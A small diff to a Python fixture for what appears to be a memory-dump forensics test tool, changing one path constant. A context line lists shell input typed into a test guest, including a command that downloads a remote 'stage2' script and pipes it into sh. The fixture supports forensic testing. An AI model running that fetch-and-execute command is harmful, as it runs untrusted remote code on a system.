@@ -18,7 +18,7 @@ TYPED = {"cd /tmp", "curl -s http://203.0.113.7/stage2 | sh", "was-typed-elsewhe
 """What was typed into the guest's shell (tools/dumpmaker/guest-rich)."""
 
 PASSING_MODULES = {"tun", "veth", "dm_mod", "overlay", "xfs"}
-PASSING_FILES = "/work/"
+PASSING_FILES = "/busy/"
 """What comes and goes while memory is copied (tools/dumpmaker/guest-acquire): it may stand in the truth of
 before and in that of after, and not have been there in between."""
 
